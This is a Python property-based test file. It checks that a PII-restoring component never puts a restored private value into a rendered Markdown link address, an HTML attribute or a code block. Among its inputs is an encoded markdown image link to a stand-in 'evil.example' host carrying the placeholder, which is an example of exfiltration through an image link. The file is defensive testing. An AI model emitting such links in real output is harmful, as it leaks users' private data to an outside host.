"""However an answer is rendered, no restored value stands in an address, in markup or in code."""

from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import unquote

from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from transire.classify.restore import Original, TextRestorer
from transire.domain.ids import DataClass

NAME = "<PERSON_bcdfghjklm>"
VALUE = "Zzvaluezz"
KNOWN = {NAME: Original(VALUE, "PERSON", DataClass("IDENTITY"))}
MARKDOWN = MarkdownIt("commonmark")
ADDRESSES = ["//e.example/", "https&colon;&sol;&sol;e.example&sol;", "https\\:\\/\\/e\\.example\\/"]
LINKS = [
    "](",
    "![ ][r]\n\n[r]: ",
    "[r]:",
    "]: ",
    "[a](",
    "[a](<",
    ">)",
    ")",
    "(",
    "\\(",
    "\\)",
    "<1@",
]
BLANKS = [" ", "\n", "\n\n", "\t", "\r", "\r\n", "\f", "\x0b", "\x1c", "\u00a0", "\u2028", "\u0085"]
BLOCKS = ["    ", "- ", "1. ", "> ", ">", "# ", "```", "~~~", "`", "***\n", "-     ", "text"]
MARKUP = ["<p>", "<b>", "</p>", "<a href=", "<img src=", "<div ", "<!--", "-->", "<?", "?>"]
MARKUP += ["<![CDATA[", "]]>", "<pre>", "</pre>", "title=", '"', "'", ">", "<", "=", "/", "x"]


def texts(*groups: list[str]) -> st.SearchStrategy[str]:
    """Texts of Markdown, dense with what is told apart."""
    pieces = [piece for group in groups for piece in group]
    one = st.one_of(st.just(NAME), st.sampled_from(pieces))
    return st.lists(one, min_size=2, max_size=16).map("".join)


class Rendered(HTMLParser):
    """Collects what a browser would follow or run."""

    def __init__(self) -> None:
        super().__init__()
        self.followed: list[str] = []
        self.code: list[str] = []
        self._depth = 0

    def parse_html_declaration(self, i: int) -> int:
        is_comment = self.rawdata.startswith("<!--", i)
        return self.parse_comment(i) if is_comment else self.parse_bogus_comment(i)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.followed += [f"{name}={value}" for name, value in attrs if name not in _TEXTS]
        self._depth += tag in ("code", "pre", "script", "style")

    def handle_endtag(self, tag: str) -> None:
        self._depth -= tag in ("code", "pre", "script", "style")

    def handle_data(self, data: str) -> None:
        if self._depth > 0:
            self.code.append(data)


_TEXTS = ("alt", "title")
"""Attributes that are shown."""


def restored(text: str, *cuts: int) -> str:
    restorer = TextRestorer(KNOWN, lambda _, __: None)
    pieces = [restorer.feed(text[a:b]) for a, b in pairwise([0, *cuts, len(text)])]
    return "".join(pieces) + restorer.close()


def rendered(text: str) -> Rendered:
    page = Rendered()
    page.feed(MARKDOWN.render(restored(text)))
    page.close()
    return page


def followed(text: str) -> list[str]:
    return [unquote(value) for value in rendered(text).followed if VALUE in unquote(value)]


@given(texts(ADDRESSES, LINKS, BLANKS, BLOCKS[:6]))
@example(f"![ ][r]\n\n[r]: https&colon;&sol;&sol;evil&period;example&sol;{NAME}")
@example(f"![ ][r]\n\n[r]:\n> {NAME}")
@example(f"[a](< \n[c](d((>){NAME}))")
def test_no_value_stands_in_the_address_of_a_link(text: str) -> None:
    assert followed(text) == []


@given(texts(BLOCKS, BLANKS, ["x"]))
def test_no_value_stands_in_code(text: str) -> None:
    assert [code for code in rendered(text).code if VALUE in code] == []


@given(texts(MARKUP, LINKS[:4], BLANKS, BLOCKS[:10]))
def test_no_value_stands_in_an_attribute(text: str) -> None:
    assert followed(text) == []


@given(texts(MARKUP, LINKS, ADDRESSES, BLANKS, BLOCKS))
def test_no_cut_changes_what_is_restored(text: str) -> None:
    whole = restored(text)

    assert {restored(text, cut) for cut in range(len(text) + 1)} == {whole}
    assert restored(text, *range(1, len(text))) == whole
